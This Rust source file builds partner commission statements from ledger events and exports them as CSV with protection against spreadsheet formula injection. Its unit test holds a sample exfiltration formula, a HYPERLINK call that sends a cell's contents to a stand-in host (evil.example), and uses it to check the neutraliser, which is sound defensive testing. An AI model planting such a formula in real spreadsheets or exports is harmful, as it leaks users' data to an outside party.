//! Partner statements: per partner per month, the opening balance, what was accrued, rejected,
//! adjusted, clawed back and paid out, and the closing balance, each line traceable to the
//! event that caused it. Also each commission's standing (`partner_commissions`), which payout
//! batches are built from.
//!
//! The balance is what we owe the partner: accruals and positive adjustments raise it;
//! rejections, clawbacks (negative entries, also after a payout: then the balance goes below
//! what is approved and the difference is carried against the next payout) and payouts lower it.
//! A payout that nets a carried clawback shows it as a `carried` line that recovers it.
//!
//! Totals are kept as lines are written, so no read sums a partner's whole history: each
//! partner's balance (`partner_balances`) and each month's lines and net (`statement_months`),
//! folded per batch and written once per key; and each payout's commissions and net
//! (`payout_totals`), moved by statements that read the commission's row in the database
//! before and after each change to its payout or net (`INSERT … SELECT`).

use std::collections::BTreeMap;

use adapters::sql::{SqlDb, SqlTx, SqlValue};
use adapters::store::RecordedEvent;
use async_trait::async_trait;
use domain::commission::CommissionEvent;
use domain::payout::PayoutEvent;
use serde_json::{json, Value};
use time::OffsetDateTime;

use crate::{decode, micros, rfc3339, Projection, ProjectionError};

pub struct Statements;

/// The most partners `render` lists.
pub const MAX_PARTNERS_RENDERED: i64 = 500;

fn month(at: OffsetDateTime) -> String {
    format!("{:04}-{:02}", at.year(), u8::from(at.month()))
}

/// What a batch's lines add to each partner's balance and each partner's month: (lines,
/// halalas).
#[derive(Default)]
struct Totals {
    partners: BTreeMap<String, (i64, i64)>,
    months: BTreeMap<(String, String), (i64, i64)>,
}

impl Totals {
    fn add(&mut self, partner_id: &str, month: String, amount_halalas: i64) {
        for total in [
            self.partners.entry(partner_id.to_owned()).or_default(),
            self.months
                .entry((partner_id.to_owned(), month))
                .or_default(),
        ] {
            total.0 += 1;
            total.1 += amount_halalas;
        }
    }

    async fn write(self, tx: &mut SqlTx) -> Result<(), ProjectionError> {
        for (partner_id, (lines, halalas)) in self.partners {
            tx.write(
                "INSERT INTO partner_balances (partner_id, lines, balance_halalas) VALUES (?, ?, ?) \
                 ON CONFLICT (partner_id) DO UPDATE SET lines = partner_balances.lines + excluded.lines, \
                 balance_halalas = partner_balances.balance_halalas + excluded.balance_halalas",
                &[partner_id.into(), lines.into(), halalas.into()],
            )
            .await?;
        }
        for ((partner_id, month), (lines, halalas)) in self.months {
            tx.write(
                "INSERT INTO statement_months (partner_id, month, lines, halalas) VALUES (?, ?, ?, ?) \
                 ON CONFLICT (partner_id, month) DO UPDATE SET lines = statement_months.lines + excluded.lines, \
                 halalas = statement_months.halalas + excluded.halalas",
                &[partner_id.into(), month.into(), lines.into(), halalas.into()],
            )
            .await?;
        }
        Ok(())
    }
}

struct Line<'a> {
    partner_id: &'a str,
    commission_id: &'a str,
    kind: &'static str,
    amount_halalas: i64,
    at: OffsetDateTime,
    reference: Option<&'a str>,
}

async fn add_line(
    tx: &mut SqlTx,
    totals: &mut Totals,
    event: &RecordedEvent,
    line: Line<'_>,
) -> Result<(), ProjectionError> {
    totals.add(line.partner_id, month(line.at), line.amount_halalas);
    tx.write(
        "INSERT INTO statement_lines (event_id, partner_id, month, position, commission_id, kind, amount_halalas, \
         occurred_at_us, reference) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
        &[
            event.event_id.to_string().into(),
            line.partner_id.into(),
            month(line.at).into(),
            event.position.into(),
            line.commission_id.into(),
            line.kind.into(),
            line.amount_halalas.into(),
            micros(line.at).into(),
            line.reference.into(),
        ],
    )
    .await?;
    Ok(())
}

/// A payout that nets clawbacks made after an earlier payout: each carried amount is recovered
/// (the partner's debt is settled by paying that much less), which the statement shows as a
/// `carried` line, and the commission no longer carries it.
async fn apply_payout(
    tx: &mut SqlTx,
    totals: &mut Totals,
    event: &RecordedEvent,
) -> Result<(), ProjectionError> {
    let PayoutEvent::PayoutCreated {
        payout_id,
        partner_id,
        carried,
        created_at,
        ..
    } = decode::<PayoutEvent>(event)?
    else {
        return Ok(());
    };
    for (index, item) in carried.iter().enumerate() {
        update_commission(
            tx,
            &item.commission_id,
            "carried_halalas = carried_halalas - ?",
            vec![item.amount_halalas.into()],
        )
        .await?;
        totals.add(&partner_id, month(created_at), -item.amount_halalas);
        tx.write(
            "INSERT INTO statement_lines (event_id, partner_id, month, position, commission_id, kind, amount_halalas, \
             occurred_at_us, reference) VALUES (?, ?, ?, ?, ?, 'carried', ?, ?, ?)",
            &[
                format!("{}:{index}", event.event_id).into(),
                partner_id.as_str().into(),
                month(created_at).into(),
                event.position.into(),
                item.commission_id.as_str().into(),
                (-item.amount_halalas).into(),
                micros(created_at).into(),
                payout_id.as_str().into(),
            ],
        )
        .await?;
    }
    Ok(())
}

async fn update_commission(
    tx: &mut SqlTx,
    commission_id: &str,
    set: &str,
    params: Vec<adapters::sql::SqlValue>,
) -> Result<(), ProjectionError> {
    // A change to a commission's payout or net moves its payout's totals: out before, in
    // after, each as the row then stands.
    let moves_payout = set.contains("payout_id") || set.contains("net_halalas");
    if moves_payout {
        payout_totals_add(tx, commission_id, -1).await?;
    }
    let mut params = params;
    params.push(commission_id.into());
    tx.write(
        &format!("UPDATE partner_commissions SET {set} WHERE commission_id = ?"),
        &params,
    )
    .await?;
    if moves_payout {
        payout_totals_add(tx, commission_id, 1).await?;
    }
    Ok(())
}

/// Adds (`sign` 1) or takes away (-1) a commission, as its row stands, to its payout's totals,
/// if it has a payout.
async fn payout_totals_add(
    tx: &mut SqlTx,
    commission_id: &str,
    sign: i64,
) -> Result<(), ProjectionError> {
    tx.write(
        "INSERT INTO payout_totals (payout_id, partner_id, commissions, net_halalas) \
         SELECT payout_id, partner_id, ?, ? * net_halalas FROM partner_commissions \
         WHERE commission_id = ? AND payout_id IS NOT NULL \
         ON CONFLICT (payout_id, partner_id) DO UPDATE SET \
         commissions = payout_totals.commissions + excluded.commissions, \
         net_halalas = payout_totals.net_halalas + excluded.net_halalas",
        &[sign.into(), sign.into(), commission_id.into()],
    )
    .await?;
    Ok(())
}

/// One event's rows.
async fn apply_one(
    tx: &mut SqlTx,
    totals: &mut Totals,
    event: &RecordedEvent,
) -> Result<(), ProjectionError> {
    if event.event_type == "PayoutCreated" {
        return apply_payout(tx, totals, event).await;
    }
    if event.stream_type != "commission" {
        return Ok(());
    }
    match decode::<CommissionEvent>(event)? {
        CommissionEvent::CommissionAccrued {
            commission_id,
            partner_id,
            invoice_id,
            lead_id,
            amount_halalas,
            held_until,
            accrued_at,
            ..
        } => {
            tx.write(
                "INSERT INTO partner_commissions (commission_id, partner_id, invoice_id, lead_id, status, \
                 accrued_halalas, net_halalas, held_until_us, payout_id, carried_halalas) \
                 VALUES (?, ?, ?, ?, 'held', ?, ?, ?, NULL, 0)",
                &[
                    commission_id.as_str().into(),
                    partner_id.as_str().into(),
                    invoice_id.as_str().into(),
                    lead_id.into(),
                    amount_halalas.into(),
                    amount_halalas.into(),
                    micros(held_until).into(),
                ],
            )
            .await?;
            let line = Line {
                partner_id: &partner_id,
                commission_id: &commission_id,
                kind: "accrued",
                amount_halalas,
                at: accrued_at,
                reference: Some(&invoice_id),
            };
            add_line(tx, totals, event, line).await?;
        }
        CommissionEvent::CommissionApproved { commission_id, .. } => {
            update_commission(tx, &commission_id, "status = 'approved'", vec![]).await?;
        }
        CommissionEvent::CommissionRejected {
            commission_id,
            partner_id,
            amount_halalas,
            rejected_at,
            reason,
            ..
        } => {
            update_commission(
                tx,
                &commission_id,
                "status = 'rejected', net_halalas = 0",
                vec![],
            )
            .await?;
            let line = Line {
                partner_id: &partner_id,
                commission_id: &commission_id,
                kind: "rejected",
                amount_halalas: -amount_halalas,
                at: rejected_at,
                reference: Some(&reason),
            };
            add_line(tx, totals, event, line).await?;
        }
        CommissionEvent::CommissionAdjusted {
            commission_id,
            partner_id,
            amount_halalas,
            adjusted_at,
            reason,
            ..
        } => {
            update_commission(
                tx,
                &commission_id,
                "net_halalas = net_halalas + ?",
                vec![amount_halalas.into()],
            )
            .await?;
            let line = Line {
                partner_id: &partner_id,
                commission_id: &commission_id,
                kind: "adjusted",
                amount_halalas,
                at: adjusted_at,
                reference: Some(&reason),
            };
            add_line(tx, totals, event, line).await?;
        }
        CommissionEvent::CommissionClawedBack {
            commission_id,
            partner_id,
            refund_id,
            amount_halalas,
            after_payout,
            clawed_back_at,
            ..
        } => {
            let carried = if after_payout { amount_halalas } else { 0 };
            update_commission(
                tx,
                &commission_id,
                "net_halalas = net_halalas + ?, carried_halalas = carried_halalas + ?",
                vec![amount_halalas.into(), carried.into()],
            )
            .await?;
            let line = Line {
                partner_id: &partner_id,
                commission_id: &commission_id,
                kind: "clawed_back",
                amount_halalas,
                at: clawed_back_at,
                reference: Some(&refund_id),
            };
            add_line(tx, totals, event, line).await?;
        }
        CommissionEvent::CommissionPaidOut {
            commission_id,
            partner_id,
            payout_id,
            amount_halalas,
            paid_out_at,
        } => {
            update_commission(
                tx,
                &commission_id,
                "status = 'paid_out', payout_id = ?",
                vec![payout_id.as_str().into()],
            )
            .await?;
            let line = Line {
                partner_id: &partner_id,
                commission_id: &commission_id,
                kind: "paid_out",
                amount_halalas: -amount_halalas,
                at: paid_out_at,
                reference: Some(&payout_id),
            };
            add_line(tx, totals, event, line).await?;
        }
    }
    Ok(())
}

#[async_trait]
impl Projection for Statements {
    fn name(&self) -> &'static str {
        "partner_statements"
    }

    fn tables(&self) -> &'static [&'static str] {
        &[
            "statement_lines",
            "partner_commissions",
            "partner_balances",
            "statement_months",
            "payout_totals",
        ]
    }

    fn folds_money(&self) -> bool {
        true
    }

    async fn apply_batch(
        &self,
        tx: &mut SqlTx,
        events: &[RecordedEvent],
    ) -> Result<(), ProjectionError> {
        let mut totals = Totals::default();
        for event in events {
            apply_one(tx, &mut totals, event).await?;
        }
        totals.write(tx).await
    }

    async fn render(&self, db: &SqlDb) -> Result<Value, ProjectionError> {
        Ok(json!({"partners": balances(db).await?}))
    }
}

// ---------------------------------------------------------------------------------------------
// Queries: balances, payouts and commissions as typed rows, for the API and the dashboard.

/// What one partner is owed, from all its statement lines.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct PartnerBalance {
    pub partner_id: String,
    pub balance_halalas: i64,
    pub lines: i64,
}

/// Every partner's balance, in partner order ([`MAX_PARTNERS_RENDERED`] at most), as kept.
pub async fn balances(db: &SqlDb) -> Result<Vec<PartnerBalance>, ProjectionError> {
    let rows = db
        .fetch_all(
            "SELECT partner_id, balance_halalas, lines FROM partner_balances \
             ORDER BY partner_id LIMIT ?",
            &[MAX_PARTNERS_RENDERED.into()],
        )
        .await?;
    rows.iter()
        .map(|row| {
            Ok(PartnerBalance {
                partner_id: row.text(0)?,
                balance_halalas: row.i64(1)?,
                lines: row.i64(2)?,
            })
        })
        .collect()
}

/// A payout, from the commissions it paid.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct PayoutTotal {
    pub payout_id: String,
    pub partner_id: String,
    pub commissions: i64,
    pub net_halalas: i64,
}

/// Every payout with its partner, how many commissions it paid and their net total, by partner
/// then payout.
pub async fn payout_totals(db: &SqlDb) -> Result<Vec<PayoutTotal>, ProjectionError> {
    let rows = db
        .fetch_all(
            "SELECT payout_id, partner_id, commissions, net_halalas FROM payout_totals \
             WHERE commissions > 0 ORDER BY partner_id, payout_id",
            &[],
        )
        .await?;
    rows.iter()
        .map(|row| {
            Ok(PayoutTotal {
                payout_id: row.text(0)?,
                partner_id: row.text(1)?,
                commissions: row.i64(2)?,
                net_halalas: row.i64(3)?,
            })
        })
        .collect()
}

/// Commissions listed at most by [`latest_commissions`].
pub const MAX_COMMISSIONS_LISTED: i64 = 500;

/// One commission and where it stands.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct CommissionStanding {
    pub commission_id: String,
    pub partner_id: String,
    pub invoice_id: String,
    pub lead_id: String,
    /// `held`, `approved`, `rejected` or `paid_out`.
    pub status: String,
    pub accrued_halalas: i64,
    pub net_halalas: i64,
    pub held_until_us: i64,
    pub payout_id: Option<String>,
}

/// The commissions held until latest first, `limit` at most.
pub async fn latest_commissions(
    db: &SqlDb,
    limit: i64,
) -> Result<Vec<CommissionStanding>, ProjectionError> {
    commissions_standing(db, None, limit).await
}

/// The commissions (of `partner_id` only, if given) held until latest first, `limit` at most.
pub(crate) async fn commissions_standing(
    db: &SqlDb,
    partner_id: Option<&str>,
    limit: i64,
) -> Result<Vec<CommissionStanding>, ProjectionError> {
    let mut params: Vec<SqlValue> = Vec::new();
    let only_partner = match partner_id {
        Some(partner_id) => {
            params.push(partner_id.into());
            "WHERE partner_id = ? "
        }
        None => "",
    };
    params.push(limit.clamp(1, MAX_COMMISSIONS_LISTED).into());
    let rows = db
        .fetch_all(
            &format!(
                "SELECT commission_id, partner_id, invoice_id, lead_id, status, accrued_halalas, net_halalas, held_until_us, payout_id \
                 FROM partner_commissions {only_partner}ORDER BY held_until_us DESC, commission_id LIMIT ?"
            ),
            &params,
        )
        .await?;
    rows.iter()
        .map(|row| {
            Ok(CommissionStanding {
                commission_id: row.text(0)?,
                partner_id: row.text(1)?,
                invoice_id: row.text(2)?,
                lead_id: row.text(3)?,
                status: row.text(4)?,
                accrued_halalas: row.i64(5)?,
                net_halalas: row.i64(6)?,
                held_until_us: row.i64(7)?,
                payout_id: row.opt_text(8)?,
            })
        })
        .collect()
}

/// One partner's statement for one month (`YYYY-MM`).
///
/// Every amount is signed by its effect on what we owe the partner, so the month adds up:
/// `closing = opening + accrued + rejected + adjusted + clawbacks + paid_out + carried`.
/// `accrued_halalas` is ≥ 0; `rejected_halalas`, `clawbacks_halalas` (the pro-rata share of
/// refunds taken back), `paid_out_halalas` and `carried_halalas` are ≤ 0; `adjusted_halalas`
/// has either sign. A line's `amount_halalas` follows the same rule.
pub async fn statement(
    db: &SqlDb,
    partner_id: &str,
    month: &str,
) -> Result<Value, ProjectionError> {
    let opening = crate::partner_view::opening_balance(db, partner_id, month).await?;
    let rows = db
        .fetch_all(
            "SELECT kind, amount_halalas, commission_id, event_id, position, occurred_at_us, reference \
             FROM statement_lines WHERE partner_id = ? AND month = ? ORDER BY occurred_at_us, position",
            &[partner_id.into(), month.into()],
        )
        .await?;
    let mut totals = std::collections::BTreeMap::from([
        ("accrued", 0i64),
        ("rejected", 0),
        ("adjusted", 0),
        ("clawed_back", 0),
        ("paid_out", 0),
        ("carried", 0),
    ]);
    let mut lines = Vec::with_capacity(rows.len());
    let mut balance = opening;
    for row in &rows {
        let kind = row.text(0)?;
        let amount = row.i64(1)?;
        balance += amount;
        if let Some(total) = totals.get_mut(kind.as_str()) {
            *total += amount;
        }
        lines.push(json!({
            "kind": kind,
            "amount_halalas": amount,
            "balance_halalas": balance,
            "commission_id": row.text(2)?,
            "event_id": row.text(3)?,
            "position": row.i64(4)?,
            "occurred_at": rfc3339(row.i64(5)?),
            "reference": row.opt_text(6)?,
        }));
    }
    Ok(json!({
        "partner_id": partner_id,
        "month": month,
        "currency": "SAR",
        "opening_balance_halalas": opening,
        "accrued_halalas": totals["accrued"],
        "rejected_halalas": totals["rejected"],
        "adjusted_halalas": totals["adjusted"],
        "clawbacks_halalas": totals["clawed_back"],
        "paid_out_halalas": totals["paid_out"],
        "carried_halalas": totals["carried"],
        "closing_balance_halalas": balance,
        "lines": lines,
    }))
}

/// The statement as CSV (RFC 4180, written by the `csv` crate): one row per line, then one row
/// per total. A text cell that a spreadsheet would read as a formula (it begins with `=`, `+`,
/// `-`, `@`, a tab or a carriage return) is neutralised with a leading `'`, as OWASP's CSV
/// injection guidance recommends; numbers are written as numbers.
pub fn statement_csv(statement: &Value) -> Result<String, ProjectionError> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let failed = |error: csv::Error| ProjectionError::External(format!("statement CSV: {error}"));
    writer.write_record(LINE_COLUMNS).map_err(failed)?;
    for line in statement["lines"].as_array().into_iter().flatten() {
        let cells: Vec<String> = LINE_COLUMNS
            .iter()
            .map(|key| csv_cell(&line[*key]))
            .collect();
        writer.write_record(&cells).map_err(failed)?;
    }
    for key in TOTAL_COLUMNS {
        let name = key.trim_end_matches("_halalas");
        let amount = csv_cell(&statement[key]);
        writer
            .write_record(["", name, "", "", &amount, "", "", ""])
            .map_err(failed)?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|error| ProjectionError::External(format!("statement CSV: {error}")))?;
    String::from_utf8(bytes).map_err(|error| ProjectionError::External(error.to_string()))
}

/// The columns of a statement line, in CSV order.
const LINE_COLUMNS: [&str; 8] = [
    "occurred_at",
    "kind",
    "commission_id",
    "reference",
    "amount_halalas",
    "balance_halalas",
    "event_id",
    "position",
];

/// The statement's totals, one CSV row each after the lines.
const TOTAL_COLUMNS: [&str; 8] = [
    "opening_balance_halalas",
    "accrued_halalas",
    "rejected_halalas",
    "adjusted_halalas",
    "clawbacks_halalas",
    "paid_out_halalas",
    "carried_halalas",
    "closing_balance_halalas",
];

/// One CSV cell: text neutralised against formula injection, numbers as they are.
fn csv_cell(value: &Value) -> String {
    match value {
        Value::String(text) => neutralised(text),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

/// `text` with a leading `'` when a spreadsheet would take it for a formula.
fn neutralised(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_cell_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not() {
        let reason = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
        let statement = json!({
            "lines": [
                {"occurred_at": "2026-11-02T10:00:00Z", "kind": "rejected", "commission_id": "c-1",
                 "reference": reason, "amount_halalas": -2_999, "balance_halalas": 0,
                 "event_id": "e-1", "position": 7},
                {"kind": "adjusted", "reference": "line one\rline two", "amount_halalas": 5},
                {"kind": "adjusted", "reference": "+1", "amount_halalas": 1},
                {"kind": "adjusted", "reference": "-1", "amount_halalas": 1},
                {"kind": "adjusted", "reference": "@SUM(A1)", "amount_halalas": 1},
                {"kind": "adjusted", "reference": "\tTAB", "amount_halalas": 1},
                {"kind": "adjusted", "reference": "\rCR", "amount_halalas": 1},
            ],
            "opening_balance_halalas": -120,
        });
        let csv = statement_csv(&statement).unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let reference = |row: usize| rows[row][3].to_owned();
        assert_eq!(reference(0), format!("'{reason}"));
        assert_eq!(&rows[0][4], "-2999", "a negative amount stays a number");
        assert_eq!(
            reference(1),
            "line one\rline two",
            "a bare CR is quoted, not a row break"
        );
        for (row, text) in [
            (2, "+1"),
            (3, "-1"),
            (4, "@SUM(A1)"),
            (5, "\tTAB"),
            (6, "\rCR"),
        ] {
            assert_eq!(reference(row), format!("'{text}"));
        }
        assert_eq!(rows.len(), 7 + TOTAL_COLUMNS.len());
        let opening = &rows[7];
        assert_eq!((&opening[1], &opening[4]), ("opening_balance", "-120"));
        assert!(csv.contains("\"line one\rline two\""), "{csv}");
    }
}
